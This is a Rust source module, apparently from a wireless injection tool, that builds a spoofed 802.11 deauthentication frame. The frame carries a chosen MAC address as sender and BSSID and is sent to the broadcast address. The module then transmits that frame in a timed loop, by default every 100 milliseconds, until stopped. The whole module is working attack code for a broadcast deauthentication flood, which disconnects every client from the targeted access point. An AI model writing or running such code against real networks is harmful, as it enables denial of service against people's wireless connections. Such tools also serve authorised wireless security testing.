//! Periodic spoofed deauthentication emission
//!
//! Repeats one fixed deauthentication frame on a timer. The spoofed
//! address is written into both the sender and BSSID fields while the
//! destination stays broadcast, so the frame reads as a broadcast deauth
//! from the spoofed BSSID rather than one aimed at a single station.

use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};

use crate::frames::{self, MacAddress};
use crate::inject::{FrameSink, InjectionStats};

/// Deauthentication emitter configuration
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DeauthConfig {
    /// Hardware address written into both the sender and BSSID fields
    pub spoof: MacAddress,
    /// Delay before each emission
    pub interval: Duration,
}

impl Default for DeauthConfig {
    fn default() -> Self {
        Self {
            spoof: MacAddress([0x01, 0x02, 0x03, 0x04, 0x05, 0x06]),
            interval: Duration::from_millis(100),
        }
    }
}

impl DeauthConfig {
    /// Set the spoofed hardware address
    pub fn with_spoof(mut self, spoof: MacAddress) -> Self {
        self.spoof = spoof;
        self
    }

    /// Set the per-emission delay
    pub fn with_interval(mut self, interval: Duration) -> Self {
        self.interval = interval;
        self
    }
}

/// Periodic deauthentication generator.
///
/// Stateless between emissions apart from its configuration: the template
/// carries pre-baked sequence-control and reason fields, so every frame
/// is byte-identical.
pub struct DeauthEmitter {
    config: DeauthConfig,
}

impl DeauthEmitter {
    /// Create an emitter
    pub fn new(config: DeauthConfig) -> Self {
        Self { config }
    }

    /// The configuration this emitter was built with
    pub fn config(&self) -> &DeauthConfig {
        &self.config
    }

    /// Build the deauthentication frame this emitter repeats
    pub fn frame(&self) -> [u8; 26] {
        frames::build_deauth(self.config.spoof)
    }

    /// Emit one deauthentication frame.
    ///
    /// Returns the bytes handed to the sink, or `None` if the sink
    /// reported failure; failures are logged and otherwise ignored.
    pub fn emit<S: FrameSink>(&mut self, sink: &mut S) -> Option<usize> {
        let frame = self.frame();
        match sink.transmit(&frame) {
            Ok(n) => Some(n),
            Err(err) => {
                tracing::debug!("Deauth transmit failed: {}", err);
                None
            }
        }
    }

    /// Run the emission loop until `stop` is set.
    ///
    /// Sleeps `config.interval` at the top of each iteration, then emits.
    pub fn run<S: FrameSink>(&mut self, sink: &mut S, stop: &AtomicBool) -> InjectionStats {
        tracing::info!(
            "Emitting deauth frames for {} every {:?}",
            self.config.spoof,
            self.config.interval
        );

        let mut stats = InjectionStats::default();
        let start = Instant::now();

        while !stop.load(Ordering::Relaxed) {
            thread::sleep(self.config.interval);

            stats.attempted += 1;
            match self.emit(sink) {
                Some(n) => {
                    stats.sent += 1;
                    stats.bytes += n as u64;
                }
                None => stats.failed += 1,
            }
        }

        tracing::info!(
            "Deauth emission stopped: {} sent, {} failed over {:.1}s",
            stats.sent,
            stats.failed,
            start.elapsed().as_secs_f32()
        );

        stats
    }
}
